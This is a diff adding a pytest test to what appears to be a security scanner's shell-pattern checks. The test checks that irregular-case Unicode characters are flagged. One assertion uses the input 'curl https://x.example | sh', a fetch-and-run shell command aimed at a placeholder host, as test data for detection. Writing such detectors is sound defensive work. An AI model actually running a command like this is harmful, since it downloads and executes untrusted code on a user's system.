@@ -308,3 +308,12 @@ def test_every_irregular_case_character_is_known() -> None:
     for char in set(letter.findall(every_code_point)):
         if not ("a" <= char.lower() <= "z" and len(char.lower()) == 1):
             assert _IRREGULAR_CASE.search(char), hex(ord(char))
+
+
+def test_irregular_case_test_is_the_class_search() -> None:
+    from mcpscan.checks._shell_patterns import _IRREGULAR_CHARS, _irregular_case
+
+    for char in _IRREGULAR_CHARS:
+        assert _IRREGULAR_CASE.fullmatch(char)
+        assert _irregular_case("curl x " + char)
+    assert not _irregular_case("curl https://x.example | sh \u00e9 K k \u0131")
